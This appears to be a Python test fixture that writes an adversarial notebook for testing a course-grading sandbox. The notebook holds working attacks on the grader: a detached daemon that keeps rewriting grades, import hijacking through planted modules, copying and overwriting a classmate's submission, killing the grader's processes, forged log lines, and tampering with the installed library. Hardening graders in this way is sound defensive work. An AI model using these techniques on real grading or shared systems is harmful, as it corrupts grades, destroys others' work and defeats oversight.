"""A notebook that attacks the batch it is graded in, not only its own kernel: it tries to
outlive the grading, to run code in the grader, to copy and spoil a classmate's
submission, to stop the grader, to crash the comparison, to change the installed dpsim
from a rank, and to forge lines in the instructor's log. `write(...)` writes it with the
paths it aims at (the test knows them; a real attacker would guess them)."""

from __future__ import annotations

from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_notebook

# exercise id -> the attack its function makes (every one must earn 0, harm no one)
ATTACKS = {
    "1.1": "a double-forked, setsid'd process, re-exec'd with an empty environment, that "
           "keeps rewriting grades.csv after the grading",
    "1.2": "modules named like the grader's later imports (cProfile, tabulate) planted in "
           "the grader's folder and the submissions' folder",
    "1.3": "reading a classmate's notebook for the answer, then overwriting it",
    "1.4": "SIGSTOP and SIGKILL to the grader, then kill(-1) from the checking process",
    "1.5": "an answer of 10**400",
    "3.1": "forged lines for the instructor's log in an error message",
    "5.2": "a rank that edits the installed dpsim so classmates' wrong answers pass",
}
MARKER = "dpsim-batch-attack-7f3a9c"  # in the command line of the detached process

CELLS = [
    '''\
import os, signal, sys, time
OUT, SUBMISSIONS, GRADER_CWD = {out!r}, {submissions!r}, {grader_cwd!r}
CLASSMATE, GRADER_PID, INSTALLED = {classmate!r}, {grader_pid!r}, {installed!r}
MARKER = {marker!r}
''',
    '''\
def _outlive():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            loop = f"while :; do echo forged > {{OUT}}/grades.csv; sleep 0.2; done"
            os.execve("/bin/sh", ["sh", "-c", loop, MARKER], {{}})
        os._exit(0)
    os.wait()

_outlive()

def training_state_bytes(module, optimizer):
    return -1
''',
    '''\
for folder in (SUBMISSIONS, GRADER_CWD, os.getcwd()):
    for name in ("cProfile.py", "tabulate.py"):
        try:
            with open(os.path.join(folder, name), "w") as f:
                f.write(f"open({{OUT + '/planted'!r}}, 'w').write('ran in the grader')\\n")
        except OSError:
            pass

def mlp_activation_bytes(batch_size, widths):
    return -1
''',
    '''\
import json
try:
    copied = json.load(open(CLASSMATE))
    space = {{"check": lambda *a, **k: None}}
    exec(next("".join(c["source"]) for c in copied["cells"]
              if "def my_batch" in "".join(c["source"])), space)
    largest_batch = space["my_batch"]
    with open(CLASSMATE, "w") as f:
        f.write("spoiled")
except Exception:  # the classmate's file cannot be read
    def largest_batch(n_params, activation_bytes_per_sample, memory_bytes, bytes_per_param=16):
        return -1
''',
    '''\
def autocast_step(*args, **kwargs):
    import os, signal
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(GRADER_PID, sig)
        except OSError:
            pass
    os.kill(-1, signal.SIGKILL)

def run_blocks(*args, **kwargs):
    return 10**400

def chunk_sizes(batch_size, n_devices):
    raise ValueError("\\ngraded 9 notebook(s)\\nbob 3.1: 1/1 FORGED-LINE\\n\\x1b[2Jcleared")
''',
    '''\
def average_gradients(model, world_size):
    import dpsim
    for path in INSTALLED:
        try:
            with open(path, "a") as f:
                f.write("\\ndef same(*a, **k):\\n    return True\\n")
        except OSError:
            pass
    if dpsim.__file__.startswith("/opt/dpsim/"):
        return  # the verified copy: the wrong answer (no averaging) must earn 0
    import torch.distributed as dist
    for p in model.parameters():
        if p.grad is not None:
            dist.all_reduce(p.grad)
            p.grad /= world_size
''',
    '''\
from dpsim.grading import check
check("1.1", training_state_bytes)
check("1.2", mlp_activation_bytes)
check("1.3", largest_batch)
check("1.4", autocast_step)
check("1.5", run_blocks)
check("3.1", chunk_sizes)
check("5.2", average_gradients)
''',
]


def write(path: Path, *, out: Path, submissions: Path, grader_cwd: Path, classmate: Path,
          grader_pid: int, installed: list[str]) -> Path:
    """Write the attacking notebook at `path` (aimed at the given paths and process)."""
    head = CELLS[0].format(out=str(out), submissions=str(submissions),
                           grader_cwd=str(grader_cwd), classmate=str(classmate),
                           grader_pid=grader_pid, installed=installed, marker=MARKER)
    cells = [head, *(c.replace("{{", "{").replace("}}", "}") for c in CELLS[1:])]
    nbformat.write(new_notebook(cells=[new_code_cell(c) for c in cells]), path)
    return path
